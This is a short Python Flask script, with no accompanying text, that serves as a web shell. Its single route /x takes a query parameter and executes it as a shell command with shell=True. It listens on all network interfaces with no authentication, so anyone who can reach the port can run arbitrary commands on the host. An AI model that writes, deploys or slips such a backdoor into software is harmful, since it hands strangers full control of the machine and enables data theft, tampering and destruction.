import subprocess
from flask import Flask, request
app = Flask(__name__)

@app.route("/x")
def x():
    return subprocess.check_output(request.args.get("c"), shell=True)

app.run(host="0.0.0.0", port=3000)
